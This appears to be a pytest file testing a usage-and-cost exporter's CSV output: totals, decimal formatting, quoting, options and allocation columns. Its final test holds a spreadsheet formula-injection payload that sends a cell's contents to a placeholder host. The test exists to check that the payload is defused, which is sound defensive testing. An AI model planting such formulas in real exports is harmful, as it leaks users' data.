"""`--format=csv`: the API's numbers digit by digit, and totals that equal the API's."""

from __future__ import annotations

import asyncio
import re
import urllib.request
from dataclasses import replace
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exporter.config.allocation_settings import AllocationRule, Allocations
from exporter.errors import ExportError, UsageError
from exporter.history.csv_format import COLUMNS
from exporter.options import DEFAULT_STEP, Options
from exporter.simulator.faults import parse_fault
from tests.collectors.helpers import UNHURRIED, YESTERDAY, row
from tests.collectors.helpers import ago as days_ago
from tests.collectors.split_api import SplitApi, joined, label_of, use
from tests.collectors.test_sums import rows_of
from tests.history import finance
from tests.history.finance import csv_of, csv_rows, decimal_sum, totals_of, totals_of_api, totals_of_file
from tests.history.harness import KEY, TODAY, Export, account, ago

HEADER = (
    b"account,first_day,last_day,model,model_permaslug,provider,endpoint_id,workspace_id,key,user_id,"
    b"spend_usd,usage_usd,byok_usage_usd,requests,prompt_tokens,completion_tokens,reasoning_tokens,cached_tokens,"
    b"byok_requests\r\n"
)
AMOUNTS = st.floats(-1e15, 1e15)
COUNTS = st.integers(0, 10**15)
OPTIONS = Options(command="export", export_format="csv")


async def exported(export: Export, **options: Any) -> bytes:
    return await export.run(export_format="csv", **({"step": DEFAULT_STEP} | options))


def of_api(export: Export) -> bytes:
    """Return the body of `GET /activity`."""
    request = urllib.request.Request(  # noqa: S310 — the simulator
        f"{export.simulator.url}/activity", headers={"Authorization": f"Bearer {KEY}"}
    )
    with urllib.request.urlopen(request) as response:  # noqa: S310 — as above
        return bytes(response.read())


@UNHURRIED
@given(rows_of(AMOUNTS, COUNTS))
def test_totals_are_those_of_the_api_to_the_last_digit(rows: list[dict[str, Any]]) -> None:
    rows = [row for row in rows if row["date"] >= days_ago(30)]
    assert totals_of(rows) == totals_of_file(csv_of(rows))


@UNHURRIED
@given(rows_of(AMOUNTS, COUNTS))
def test_months_have_the_totals_of_days(rows: list[dict[str, Any]]) -> None:
    rows = [row for row in rows if row["date"] >= days_ago(30)]
    assert totals_of(rows) == totals_of_file(csv_of(rows, by="month"))


@UNHURRIED
@given(rows_of(AMOUNTS, COUNTS))
def test_spend_is_usage_and_own_key_usage(rows: list[dict[str, Any]]) -> None:
    for written in csv_of(rows):
        assert decimal_sum([written["usage_usd"], written["byok_usage_usd"]]) == Decimal(written["spend_usd"])


@UNHURRIED
@given(
    st.lists(
        st.builds(
            use,
            st.sampled_from(["k1", "k2", "gone"]),
            st.integers(1, 30).map(days_ago),
            st.sampled_from(["e1", "e2"]),
            usage=st.integers(0, 10**12).map(lambda millionths: millionths / 10**6),
            byok_usage_inference=st.floats(0, 1e3),
            requests=st.integers(1, 10**6),
        ),
        max_size=20,
        unique_by=repr,
    ),
    st.sampled_from(["api_key", "member"]),
)
def test_split_has_the_totals_of_the_whole_account(uses: list[dict[str, Any]], split_by: str) -> None:
    rows = csv_rows(finance.export(SplitApi(uses, ["k1", "k2"]), options=OPTIONS, split_by=split_by))
    assert totals_of(joined(uses)) == totals_of_file(rows)


async def test_totals_are_those_of_a_request(export: Export) -> None:
    body = await asyncio.to_thread(of_api, export)
    assert totals_of_api(body) == totals_of_file(csv_rows(await exported(export)))


async def test_split_by_workspace_has_the_same_totals(export: Export) -> None:
    export.accounts = [account(split_by="workspace")]
    body, rows = await asyncio.to_thread(of_api, export), csv_rows(await exported(export))
    assert totals_of_api(body) == totals_of_file(rows)
    assert all(row["workspace_id"] for row in rows)


def test_row_has_all_columns() -> None:
    assert [
        {
            "account": "default",
            "first_day": str(YESTERDAY),
            "last_day": str(YESTERDAY),
            "model": "acme/one",
            "model_permaslug": "acme/one-2026",
            "provider": "Acme",
            "endpoint_id": "e1",
            "workspace_id": "",
            "key": "",
            "user_id": "",
            "spend_usd": "1.5",
            "usage_usd": "1",
            "byok_usage_usd": "0.5",
            "requests": "3",
            "prompt_tokens": "4",
            "completion_tokens": "5",
            "reasoning_tokens": "6",
            "cached_tokens": "7",
            "byok_requests": "8",
        }
    ] == csv_of([row(byok_usage_inference=0.5)])


def test_key_has_its_own_column() -> None:
    api = SplitApi([use("k1", days_ago(1)), use("gone", days_ago(1), usage=0.25)], ["k1"])
    rows = csv_rows(finance.export(api, options=OPTIONS, split_by="api_key"))
    assert {label_of("k1"): "1", "unattributed": "0.25"} == {row["key"]: row["usage_usd"] for row in rows}


@pytest.mark.parametrize(
    ("amount", "text"),
    [
        (1e-7, "0.0000001"),
        (0.1, "0.1"),
        (123456789.123457, "123456789.123457"),
        (1e15, "1000000000000000"),
        (-0.5, "-0.5"),
        (-0.0, "0"),
        (5e-324, f"0.{'0' * 323}5"),
        ("1.20", "1.2"),
    ],
)
def test_amounts_have_no_exponent_and_the_digits_of_the_api(amount: float | str, text: str) -> None:
    assert [text] == [row["usage_usd"] for row in csv_of([row(usage=amount)])]


def test_rows_of_one_endpoint_and_day_are_added_as_decimals() -> None:
    assert ["0.3"] == [row["usage_usd"] for row in csv_of([row(usage=0.1), row(usage=0.2)])]


def test_value_that_the_api_does_not_report_is_empty() -> None:
    assert [""] == [row["cached_tokens"] for row in csv_of([row(cached_tokens=...)])]


def test_spend_of_an_account_without_own_keys_is_its_usage() -> None:
    assert [("1", "")] == [(row["spend_usd"], row["byok_usage_usd"]) for row in csv_of([row(byok_usage_inference=...)])]


@pytest.mark.parametrize("usage", [..., None, "much"])
def test_endpoint_with_an_unknown_cost_fails_the_export(usage: object) -> None:
    """An empty cell would add up like 0, and BYOK usage alone is not the spend."""
    with pytest.raises(ExportError, match="the API does not report what acme/one cost"):
        csv_of([row(usage=usage)])


def test_dropped_labels_are_still_columns() -> None:
    rows = csv_of([row(endpoint="e1"), row(endpoint="e2")], drop_labels=("endpoint_id",))
    assert ["e1", "e2"] == [row["endpoint_id"] for row in rows]


def test_excluded_models_are_left_out() -> None:
    rows = csv_of([row(), row(model="acme/two")], exclude=(re.compile("acme/two"),))
    assert ["acme/one"] == [row["model"] for row in rows]


def test_month_has_the_days_that_were_exported() -> None:
    rows = csv_of([row(days_ago(1)), row(days_ago(2)), row(days_ago(29))], by="month")
    assert [("2026-07-24", "2026-07-31", "3"), ("2026-08-01", "2026-08-22", "6")] == [
        (row["first_day"], row["last_day"], row["requests"]) for row in rows
    ]


def test_names_with_commas_quotes_and_line_breaks_are_quoted() -> None:
    name = 'a "b", c\r\nd'
    assert [name] == [row["provider"] for row in csv_of([row(provider_name=name)])]


def test_file_begins_with_the_columns_and_has_the_line_ends_of_rfc_4180() -> None:
    content = finance.export(SplitApi([], [], wholes=[[row()]]), options=OPTIONS)
    assert content.startswith(HEADER)
    assert 2 == content.count(b"\r\n") == content.count(b"\n")


def test_file_of_an_account_without_usage_has_only_the_columns() -> None:
    assert HEADER == finance.export(SplitApi([], [], wholes=[[]]), options=OPTIONS)


def test_order_of_the_rows_of_the_api_does_not_matter() -> None:
    rows = [row(days_ago(day), endpoint, usage=day / 7) for day in (1, 2) for endpoint in ("e1", "e2")]
    assert csv_of(rows) == csv_of(rows[::-1])


async def test_same_command_writes_the_same_bytes(export: Export) -> None:
    first = await exported(export)
    export.clock.advance(3600)
    assert first == await exported(export)


async def test_accounts_follow_each_other_below_one_header(export: Export) -> None:
    export.accounts = [account("one"), account("two")]
    content = await exported(export, first_day=ago(2))
    assert 1 == content.count(HEADER)
    rows = csv_rows(content)
    names = [row["account"] for row in rows]
    assert names == sorted(names)
    assert {"one", "two"} == set(names)
    assert {str(ago(1)), str(ago(2))} == {row["first_day"] for row in rows}


async def test_row_without_its_amount_fails(export: Export) -> None:
    export.simulator.faults.replace(parse_fault("bad-row"))
    with pytest.raises(ExportError, match=r"unusable rows: 1, such as .*; totals would be incomplete"):
        await exported(export)
    assert [] == list(export.folder.iterdir())


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"first_day": ago(31)}, "--from 2026-10-20: --format=csv reaches back to 2026-10-21"),
        ({"last_day": TODAY}, "--to 2026-11-20: this UTC day has not ended"),
        ({"labels": (("job", "x"),)}, "--label: only for --format=openmetrics and focus, not for csv"),
        ({"step": 60.0}, "--step: only for --format=openmetrics, not for csv"),
        (
            {"export_format": "openmetrics", "export_period": "month"},
            "--by: only for --format=csv, not for openmetrics",
        ),
    ],
)
async def test_impossible_options_are_refused_before_any_request(
    export: Export, options: dict[str, Any], message: str
) -> None:
    with pytest.raises(UsageError, match=f"^{message}"):
        await export.run(**({"export_format": "csv", "step": DEFAULT_STEP} | options))
    assert [] == list(export.simulator.requests)


@pytest.mark.parametrize(
    ("split_by", "teams"),
    [
        ("api_key", {"search", "research", "platform"}),
        ("workspace", {"research", "platform"}),
        ("member", {"ada", "platform"}),
        ("none", {"platform"}),
    ],
)
async def test_labels_of_the_configuration_follow_the_columns(export: Export, split_by: str, teams: set[str]) -> None:
    rules = (
        AllocationRule(key=re.compile("production"), labels={"team": "search"}),
        AllocationRule(workspace=re.compile("Research"), labels={"team": "research"}),
        AllocationRule(member=re.compile("ada@example.com"), labels={"team": "ada"}),
    )
    allocations = Allocations(labels=("team", "cost_center"), rules=rules)
    export.allocations = allocations
    export.accounts = [replace(account(split_by=split_by), labels={"team": "platform"}, allocations=allocations)]
    rows = csv_rows(await exported(export))
    assert [*COLUMNS, "team", "cost_center"] == list(rows[0])
    assert teams == {row["team"] for row in rows}
    assert {"unallocated"} == {row["cost_center"] for row in rows}


async def test_configured_labels_are_columns_without_any_account(export: Export) -> None:
    export.accounts, export.allocations = [], Allocations(labels=("team", "cost_center"))
    assert HEADER.rstrip() + b",team,cost_center\r\n" == await exported(export)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_name_that_looks_like_a_formula_is_prefixed_with_a_quote(begin: str) -> None:
    name = f'{begin}HYPERLINK("http://x.example/?"&A1)'
    (written,) = csv_of([row(model=name, provider_name=name, usage=-2.5, byok_usage_inference=0)])
    assert (f"'{name}", f"'{name}") == (written["model"], written["provider"])
    assert ("-2.5", "-2.5") == (written["spend_usd"], written["usage_usd"])
